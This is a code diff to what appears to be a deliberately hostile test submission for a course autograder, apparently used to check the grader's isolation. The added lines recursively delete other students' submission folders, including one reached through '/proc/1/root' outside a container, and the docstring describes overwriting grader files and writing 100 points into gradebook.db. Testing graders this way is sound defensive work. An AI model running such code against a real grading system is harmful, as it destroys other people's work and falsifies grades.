@@ -1,6 +1,8 @@
-"""Tries to overwrite the results and notebooks of the course and the grader's files, and to write 100 points into gradebook.db."""
+"""Tries to delete the submissions of other students, to overwrite the results and notebooks of the course and the grader's files, and to write 100 points into gradebook.db."""
 # %%
-import glob, os, sqlite3
+import glob, os, shutil, sqlite3
+for place in (COURSE + "/submitted", "../../../b-good", "/proc/1/root" + COURSE + "/submitted"):
+    tried(lambda: shutil.rmtree(place))
 def write(path):
     os.makedirs(os.path.dirname(path), exist_ok=True)
     return path, open(path, "w").write("{}")
